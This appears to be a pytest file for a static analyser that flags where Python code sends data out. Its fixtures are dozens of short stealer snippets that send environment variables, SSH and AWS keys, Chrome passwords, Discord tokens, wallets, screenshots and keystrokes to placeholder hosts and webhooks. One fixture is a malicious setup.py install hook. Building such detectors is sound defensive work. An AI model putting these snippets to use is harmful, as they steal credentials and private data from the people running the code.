"""Theft as it is written for Python: what is collected and sent away is told, at the line where it leaves."""

from __future__ import annotations

import pytest

from fimci.model import Capability
from fimci.readers.code import python

ENVIRONMENT = """
import os, requests
requests.post("https://collect.invalid/", data=dict(os.environ))  # <<
---
import requests, os
requests.post("https://collect.invalid/", json={k: v for k, v in os.environ.items()})  # <<
---
import os, json, base64, requests
env = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()
requests.get(f"https://collect.invalid/?d={env}")  # <<
---
import os
from urllib.parse import urlencode
from urllib.request import urlopen
urlopen("https://collect.invalid/?" + urlencode(dict(os.environ)))  # <<
---
import os, urllib.request, json
data = json.dumps(dict(os.environ)).encode("utf-8")
req = urllib.request.Request("https://collect.invalid", data=data, method="POST")
urllib.request.urlopen(req)  # <<
---
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("collect.invalid", 4444))
s.send(str(os.environ).encode())  # <<
s.close()
---
import os, socket
with socket.create_connection(("collect.invalid", 443)) as s:
    s.sendall(repr(os.environ).encode())  # <<
---
import os, socket
for k, v in os.environ.items():
    socket.gethostbyname(f"{v.encode().hex()}.collect.invalid")  # <<
---
import os, http.client, json
conn = http.client.HTTPSConnection("collect.invalid")
conn.request("POST", "/", json.dumps(dict(os.environ)), {"Content-Type": "application/json"})  # <<
---
import os, aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as session:
        async with session.post("https://collect.invalid", json=dict(os.environ)) as r:  # <<
            pass
asyncio.run(main())
---
import os, httpx
httpx.post("https://collect.invalid", content="\\n".join(f"{k}={v}" for k, v in os.environ.items()))  # <<
---
import os, requests
body = ""
for key in os.environ:
    body += key + "=" + os.environ[key] + "\\n"
requests.post("https://collect.invalid", data=body)  # <<
---
import os, requests
out = []
for k, v in os.environ.items():
    out.append(f"{k}={v}")
requests.post("https://collect.invalid", data="\\n".join(out))  # <<
---
import os, requests
info = {"user": "x"}
info.update(os.environ)
requests.post("https://collect.invalid", json=info)  # <<
---
import os, requests
def collect():
    return dict(os.environ)
def send(payload):
    requests.post("https://collect.invalid", json=payload)  # <<
send(collect())
---
import os, json
from urllib import request
class Beacon:
    def __init__(self):
        self.data = {}
    def gather(self):
        self.data["env"] = dict(os.environ)
    def ship(self):
        body = json.dumps(self.data).encode()
        request.urlopen(request.Request("https://collect.invalid", body))  # <<
b = Beacon()
b.gather()
b.ship()
---
import os, threading, requests
def run(data):
    requests.post("https://collect.invalid", json=data)  # <<
threading.Thread(target=run, args=(dict(os.environ),)).start()
---
import os, subprocess, json
subprocess.run(["curl", "-X", "POST", "-d", json.dumps(dict(os.environ)), "https://collect.invalid"])  # <<
---
import os
os.system("curl -d \\"$(env)\\" https://collect.invalid")  # <<
---
import subprocess
subprocess.Popen("env | curl -X POST --data-binary @- https://collect.invalid", shell=True)  # <<
---
import subprocess
subprocess.call(["sh", "-c", "printenv | base64 | curl -d @- https://collect.invalid"])  # <<
---
import subprocess, requests
env = subprocess.check_output("env", shell=True)
requests.post("https://collect.invalid", data=env)  # <<
---
import subprocess, requests
out = subprocess.run(["printenv"], capture_output=True, text=True).stdout
requests.post("https://collect.invalid", data=out)  # <<
---
import requests
data = open("/proc/self/environ").read()
requests.post("https://collect.invalid", data=data)  # <<
---
from os import environ as e
from requests import post as p
p("https://collect.invalid", json={**e})  # <<
---
o = __import__("os")
r = __import__("requests")
r.post("https://collect.invalid", data=o.environ.copy())  # <<
---
import importlib
env = dict(vars(__import__("os"))["environ"])
getattr(importlib.import_module("requests"), "post")("https://collect.invalid", json=env)  # <<
---
import os
import requests
session = requests.Session()
session.headers.update({"X-Data": str(dict(os.environ))})
session.post("https://collect.invalid", json=dict(os.environ))  # <<
---
import os, smtplib
from email.mime.text import MIMEText
msg = MIMEText(str(os.environ))
server = smtplib.SMTP("mail.invalid", 587)
server.login("a@mail.invalid", "password")
server.sendmail("a@mail.invalid", "b@mail.invalid", msg.as_string())  # <<
---
import os, ftplib, io
ftp = ftplib.FTP("ftp.invalid", "u", "p")
ftp.storbinary("STOR env.txt", io.BytesIO(str(os.environ).encode()))  # <<
---
import os, urllib3
http = urllib3.PoolManager()
http.request("POST", "https://collect.invalid", fields=dict(os.environ))  # <<
---
import os, websocket
ws = websocket.create_connection("wss://collect.invalid")
ws.send(str(dict(os.environ)))  # <<
---
import os, requests
if (data := dict(os.environ)):
    requests.post("https://collect.invalid", json=data)  # <<
---
import os, requests
secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}
requests.post("https://collect.invalid", json=secrets)  # <<
---
import os, requests
url = "https://discord.com/api/webhooks/1/x"
requests.post(url, json={"content": os.environ["AWS_SECRET_ACCESS_KEY"]})  # <<
---
import os, requests
token = os.getenv("GITHUB_TOKEN")
requests.get("https://collect.invalid/log?t=" + str(token))  # <<
---
import os, functools, requests
send = functools.partial(requests.post, "https://collect.invalid")
send(data=dict(os.environ))  # <<
---
import os, dns.resolver, base64
blob = base64.b32encode(str(os.environ).encode()).decode()
for i in range(0, len(blob), 60):
    dns.resolver.resolve(blob[i:i+60] + ".collect.invalid", "A")  # <<
---
import os, pycurl, json
c = pycurl.Curl()
c.setopt(c.URL, "https://collect.invalid")
c.setopt(c.POSTFIELDS, json.dumps(dict(os.environ)))
c.perform()
"""

HOST = """
import socket, getpass, platform, requests
data = {"h": socket.gethostname(), "u": getpass.getuser(), "p": platform.platform()}
requests.post("https://collect.invalid", json=data)  # <<
---
import os, socket, requests
hostname = socket.gethostname()
username = os.getlogin()
cwd = os.getcwd()
requests.get("https://collect.invalid", params={"hostname": hostname, "cwd": cwd, "username": username})  # <<
---
from setuptools import setup
from setuptools.command.install import install
import requests
import socket
import getpass
import os
class CustomInstall(install):
    def run(self):
        install.run(self)
        hostname = socket.gethostname()
        cwd = os.getcwd()
        username = getpass.getuser()
        ploads = {"hostname": hostname, "cwd": cwd, "username": username}
        requests.get("https://x.oast.fun", params=ploads)  # <<
setup(name="a", version="99.9", cmdclass={"install": CustomInstall})
---
import os, socket
def q(x):
    try:
        socket.gethostbyname(x)  # <<
    except Exception:
        pass
q("%s.%s.x.oastify.com" % (socket.gethostname(), os.getlogin()))
---
import uuid, getpass, json, urllib.request
info = json.dumps({"id": uuid.getnode(), "user": getpass.getuser()}).encode()
urllib.request.urlopen("https://collect.invalid", data=info)  # <<
---
import subprocess, requests
who = subprocess.check_output(["whoami"]).decode()
host = subprocess.check_output(["hostname"]).decode()
requests.post("https://collect.invalid", data={"w": who, "h": host})  # <<
---
import os, requests
out = os.popen("whoami && hostname && ip a").read()
requests.post("https://collect.invalid", data=out)  # <<
---
import os
os.system("nslookup $(whoami).$(hostname).x.oast.fun")  # <<
---
import requests, os
ip = requests.get("https://api.ipify.org").text
url = "https://discord.com/api/webhooks/1/x"
requests.post(url, json={"content": f"{ip} {os.getlogin()} {os.uname()}"})  # <<
---
import getpass, platform, requests
def info():
    d = dict()
    d["user"] = getpass.getuser()
    d["node"] = platform.node()
    return d
class Reporter:
    url = "https://collect.invalid"
    def report(self, d):
        requests.post(self.url, json=d)  # <<
Reporter().report(info())
---
import psutil, getpass, requests, socket
text = f"{getpass.getuser()}@{socket.gethostname()} {psutil.users()}"
requests.post("https://api.telegram.org/bot1:x/sendMessage", data={"chat_id": 1, "text": text})  # <<
"""

FILES = """
import requests, os
with open(os.path.expanduser("~/.aws/credentials")) as f:
    requests.post("https://collect.invalid", data=f.read())  # <<
---
import requests
from pathlib import Path
requests.post("https://collect.invalid", files={"f": (Path.home() / ".ssh" / "id_rsa").open("rb")})  # <<
---
from pathlib import Path
import urllib.request
home = Path.home()
for p in [home / ".ssh/id_rsa", home / ".netrc", home / ".pypirc"]:
    if p.exists():
        urllib.request.urlopen("https://collect.invalid", data=p.read_bytes())  # <<
---
import os, requests
paths = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"]
for path in paths:
    full = os.path.expanduser(path)
    if os.path.isfile(full):
        with open(full, "rb") as fh:
            requests.post("https://collect.invalid", files={"file": fh})  # <<
---
import os, glob, requests
for key in glob.glob(os.path.join(os.environ["HOME"], ".ssh", "*")):
    requests.post("https://collect.invalid", data=open(key).read())  # <<
---
import os, requests
def read(path):
    try:
        return open(path).read()
    except OSError:
        return ""
def main():
    home = os.path.expanduser("~")
    loot = {"aws": read(home + "/.aws/credentials"), "ssh": read(home + "/.ssh/id_rsa")}
    requests.post("https://collect.invalid", json=loot)  # <<
main()
---
import os, sqlite3, shutil, win32crypt, requests
src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy2(src, "db.tmp")
conn = sqlite3.connect("db.tmp")
rows = conn.cursor().execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
out = [(u, n, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1]) for u, n, p in rows]
requests.post("https://discord.com/api/webhooks/1/x", json={"content": str(out)})  # <<
---
import os, sqlite3, requests
def passwords():
    path = os.getenv("LOCALAPPDATA") + r"\\Google\\Chrome\\User Data\\Default\\Login Data"
    db = sqlite3.connect(path)
    found = []
    for row in db.execute("select * from logins"):
        found.append(row)
    return found
def send(text):
    requests.post("https://collect.invalid", data=text)  # <<
send(str(passwords()))
---
import os, re, requests
tokens = []
path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
for name in os.listdir(path):
    for line in open(f"{path}\\\\{name}", errors="ignore").readlines():
        for token in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line):
            tokens.append(token)
requests.post("https://discord.com/api/webhooks/1/x", json={"content": "\\n".join(tokens)})  # <<
---
import browser_cookie3, requests
jar = browser_cookie3.chrome(domain_name="roblox.com")
requests.post("https://discord.com/api/webhooks/1/x", json={"content": str(jar)})  # <<
---
import keyring, requests
requests.post("https://collect.invalid", json={"p": keyring.get_password("system", "user")})  # <<
---
import netrc, requests
n = netrc.netrc()
requests.post("https://collect.invalid", data=str(n.hosts))  # <<
---
import os, zipfile, requests
z = zipfile.ZipFile("/var/tmp/a.zip", "w")
for root, dirs, files in os.walk(os.path.expanduser("~/.ssh")):
    for f in files:
        z.write(os.path.join(root, f))
z.close()
requests.post("https://collect.invalid", files={"f": open("/var/tmp/a.zip", "rb")})  # <<
---
import shutil, os, requests
shutil.make_archive("/var/tmp/w", "zip", os.path.expandvars(r"%APPDATA%\\Exodus\\exodus.wallet"))
requests.post("https://collect.invalid", files={"f": open("/var/tmp/w.zip", "rb")})  # <<
---
import os
os.system("curl -F f=@$HOME/.ssh/id_rsa https://collect.invalid")  # <<
---
import subprocess
subprocess.run(["curl", "-T", "/root/.aws/credentials", "https://collect.invalid"])  # <<
---
import subprocess, os
home = os.path.expanduser("~")
command = f"tar czf - {home}/.ssh | curl -X POST --data-binary @- https://collect.invalid"
subprocess.Popen(command, shell=True)  # <<
---
import base64, socket
key = open("/home/user/.ssh/id_ed25519", "rb").read()
s = socket.socket()
s.connect(("192.0.2.7", 8443))
s.sendall(base64.b64encode(key))  # <<
---
import requests, re
data = open("/proc/1/environ", "rb").read()
requests.post("https://collect.invalid", data=data)  # <<
---
import subprocess, requests
token = subprocess.check_output(["gh", "auth", "token"])
requests.post("https://collect.invalid", data=token)  # <<
---
import subprocess, requests
keys = subprocess.check_output("cat ~/.ssh/id_rsa", shell=True)
requests.post("https://collect.invalid", data=keys)  # <<
---
import paramiko, os
t = paramiko.Transport(("collect.invalid", 22))
t.connect(username="u", password="p")
sftp = paramiko.SFTPClient.from_transport(t)
sftp.put(os.path.expanduser("~/.ssh/id_rsa"), "/loot")  # <<
---
from discord_webhook import DiscordWebhook
hook = DiscordWebhook(url="https://discord.com/api/webhooks/1/x")
with open("/root/.ssh/id_rsa", "rb") as f:
    hook.add_file(file=f.read(), filename="k")  # <<
hook.execute()
---
import discord, requests
from discord import SyncWebhook
hook = SyncWebhook.from_url("https://discord.com/api/webhooks/1/x")
hook.send(open("/root/.ssh/id_rsa").read())  # <<
"""

SPYING = """
import pyperclip, requests
requests.post("https://collect.invalid", data=pyperclip.paste())  # <<
---
from PIL import ImageGrab
import requests
ImageGrab.grab().save("s.png")
requests.post("https://discord.com/api/webhooks/1/x", files={"file": open("s.png", "rb")})  # <<
---
import pyautogui, requests, io
shot = pyautogui.screenshot()
buf = io.BytesIO()
shot.save(buf, "PNG")
requests.post("https://collect.invalid", files={"f": buf.getvalue()})  # <<
---
import mss, requests
with mss.mss() as sct:
    sct.shot(output="m.png")
requests.post("https://collect.invalid", files={"f": open("m.png", "rb")})  # <<
---
from pynput import keyboard
import requests
log = ""
def on_press(key):
    global log
    log += str(key)
    if len(log) > 100:
        requests.post("https://collect.invalid", data=log)  # <<
with keyboard.Listener(on_press=on_press) as l:
    l.join()
---
import keyboard, smtplib
class Keylogger:
    def __init__(self):
        self.log = ""
    def callback(self, event):
        self.log += event.name
    def report(self):
        s = smtplib.SMTP("mail.invalid", 587)
        s.sendmail("a", "b", self.log)  # <<
    def start(self):
        keyboard.on_release(callback=self.callback)
        self.report()
        keyboard.wait()
"""


def cases(table: str) -> list[str]:
    return [text.strip() + "\n" for text in table.split("\n---\n")]


def lines(text: str, chain: str, path: str = "a.py") -> list[int]:
    found = python.read(path, text.encode())
    return [one.at.line for one in found if isinstance(one, Capability) and one.name == chain]


@pytest.mark.parametrize("text", [*cases(ENVIRONMENT), *cases(HOST), *cases(FILES), *cases(SPYING)])
def test_what_is_stolen_is_told_where_it_leaves(text: str) -> None:
    marked = [number for number, line in enumerate(text.splitlines(), 1) if line.endswith("# <<")]
    found = lines(text, "exfiltration")
    assert found
    assert not marked or set(marked) & set(found)
